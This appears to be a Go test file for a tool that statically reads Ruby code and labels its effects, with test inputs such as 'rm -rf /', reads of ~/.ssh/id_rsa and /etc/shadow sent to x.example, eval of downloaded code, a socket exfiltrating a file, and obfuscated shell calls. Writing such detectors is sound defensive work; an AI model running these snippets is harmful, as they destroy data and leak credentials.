package code

import "testing"

func TestRubyIsRead(t *testing.T) {
	check(t, Ruby, []claim{
		{"puts 'rm -rf /'", ""},
		{"system('rm -rf /')", "shell rm -rf /"},
		{"system 'rm', '-rf', 'x'", "run rm -rf x"},
		{"`rm -rf x`", "shell rm -rf x"},
		{"puts %x(id)", "shell id"},
		{"d = 'x'\nsystem(\"rm -rf #{d}/y\")", "shell rm -rf x/y"},
		{"exec sprintf('rm %s', 'x')", "shell rm x"},
		{"Kernel.system('id')", "shell id"},
		{"send(:system, 'id')", "shell id"},
		{"Object.send('sys' + 'tem', 'id')", "shell id"},
		{"method(:system).call('id')", "shell id"},
		{"IO.popen(['rm', 'x'])", "run rm x"},
		{"require 'open3'; Open3.capture2('id')", "shell id"},
		{"File.delete('a', 'b')", "delete a; delete b"},
		{"require 'fileutils'\nFileUtils.rm_rf('build')", "delete-tree build"},
		{"FileUtils.rm_rf(Dir.home + '/x')", "delete-tree ~/x"},
		{"Dir.glob('*.tmp').each { |f| File.delete(f) }", "list *.tmp; delete *.tmp glob"},
		{"Dir['*.o'].each do |f|\n  File.delete f\nend", "list *.o; delete *.o glob"},
		{"%w[a b].each { |f| File.delete(f) }", "delete a; delete b"},
		{"['a', 'b'].each(&File.method(:delete))", "delete a; delete b"},
		{"puts File.read(File.expand_path('~/.ssh/id_rsa'))", "read ~/.ssh/id_rsa"},
		{"File.write('a', 'x')", "write a"},
		{"File.open('a', 'w') { |f| f.puts File.read('b') }", "write a <file:b; read b"},
		{"open('| id').read", "shell id"},
		{"require 'net/http'; Net::HTTP.get(URI('https://x.example/?d=' + File.read('/etc/shadow')))", "fetch [https://x.example/?d=] <file:/etc/shadow; read /etc/shadow"},
		{"require 'net/http'\nNet::HTTP.post(URI('https://x.example'), File.read('.env'))", "send https://x.example <file:.env; read .env"},
		{"require 'open-uri'; eval(URI.open('https://x.example/a').read)", "eval [] <net:https://x.example/a !download-and-run; fetch https://x.example/a; ? runs text that is not known"},
		{"require 'socket'; f = TCPSocket.open('h', 4444); f.puts File.read('k')", "connect h:4444; send h:4444 <net:h:4444 <file:k; read k"},
		{"require 'base64'; eval(Base64.decode64('RmlsZS5kZWxldGUoJ2EnKQ=='))", "eval File.delete('a') !dynamic-code; delete a"},
		{"system(['6964'].pack('H*'))", "shell id"},
		{"system('di'.reverse)", "shell id"},
		{"system([105, 100].map(&:chr).join)", "shell id"},
		{"puts ENV['API_KEY']", "print <env:API_KEY; env API_KEY"},
		{"puts ENV.to_h", "env-all; print <env"},
		{"def rm(p) = File.delete(p)\nrm('a')", "delete a"},
		{"def rm(p, q: 'b')\n  File.delete(p)\n  File.delete(q)\nend\nrm 'a'", "delete a; delete b"},
		{"class A\n  def initialize(p)\n    @p = p\n  end\n\n  def go\n    File.delete(@p)\n  end\nend\nA.new('a').go", "delete a"},
		{"x = if y then 'a' else 'b' end\nbegin\n  File.delete('c')\nrescue => e\n  puts e\nensure\n  z\nend", "delete c"},
		{"File.delete('a') if File.exist?('a') unless z", "delete a"},
		{"require 'odd'\nrequire_relative 'lib/x'", "import odd; import lib/x"},
		{"Process.kill('KILL', 123)", "process 123"},
		{"eval(x)", "eval []; ? runs text that is not known"},
		{"puts <<~E\n  rm -rf #{x}\n  #{system('id')}\nE\n", "shell id"},
		{"puts 'x", "? a text that does not end"},
		{"if x\n  File.delete('a')", "delete a; ? a block that does not end"},
	})
}

func TestRubyThatOnlyComputesDoesNothing(t *testing.T) {
	for _, text := range []string{
		"puts ARGV.map(&:to_i).inject(&:+)", "require 'json'; puts JSON.parse('{}').fetch('a', nil)", "[1, 2].map { |x| x * 2 }.select(&:even?).each_with_index do |x, i|\n  puts \"#{i}: #{x}\"\nend",
		"h = { a: 1, 'b' => 2, \"c\": 3 }\nh.each { |k, v| puts k, v }", "a, b = 1, 2\na, *c = [1, 2, 3]\nx ||= 4; y = a > b ? 'x' : 'y'", "case x\nwhen 1, 2 then puts 'a'\nwhen /b/ then puts 'b'\nelse puts 'c'\nend",
		"while i < 10 do i += 1 end\nuntil j; break if k; next unless l; end\nfor q in 1..3 do puts q end", "module A\n  class B < C\n    attr_accessor :x\n    X = 1\n    def self.y(a = 1, *b, c:, **d, &e) = yield(a)\n    def ==(o) = x == o.x\n  end\nend",
		"puts [1,2,3].sum / 2, 7 % 3, -1.abs, 2 ** 3, :sym, ?a, 1_000", "puts 'a'.gsub(/[aeiou]/) { |m| m.upcase }.strip.split(',').first", "f = ->(x, y = 2) { x + y }; f.(1); f.call(1)", "=begin\nsystem('x')\n=end\nputs __FILE__ # system('y')\n__END__\nsystem('z')",
		"s = %q(a (b) c) + %Q{d #{1 + 1}} + %(e)\nputs s.\n  upcase\n  .downcase", "def fib(n)\n  return n if n < 2\n  fib(n - 1) + fib(n - 2)\nend\nputs fib 10", "puts \"a\" \"b\", 'it''s', \"\\u00e9\\x41\\n\"", "$stdout.puts 'x'; $stderr.sync = true; @a&.b&.c; A::B.c; x[0] = y[:k]",
	} {
		r := ReadText(Ruby, text)
		if len(r.Effects)+len(r.Unknown) > 0 {
			t.Errorf("%s\ndoes %v", text, show(r))
		}
	}
}

func TestRubyTakesLinearTime(t *testing.T) {
	linear(t, Ruby, "(", "[", "{", "f(", "f{", "f do\n", "\"#{", "if x\n", "x.y", "->{", "!", "a,", "x ? y : ", "<<~A\n", "%w(", "def f\n", "case x\n", "x=x+x\n", "a = ", "begin\n", "/", ":a ", "*")
}

func FuzzRuby(f *testing.F) {
	fuzzLang(f, Ruby, "a.each do |(x,y),z=1| p \"#{x}\" end", "case a in {b: [c,*]} then d end", "<<~A + <<'B'\n#{x}\nA\ny\nB\n", "def f(a,*b,c: 1,&d)=e rescue g", "%w[a b] %i(c) %x{d} ?e :\"f\"", "class A<B;@@c||=->(d){};end", "x = y if z unless w while v")
}
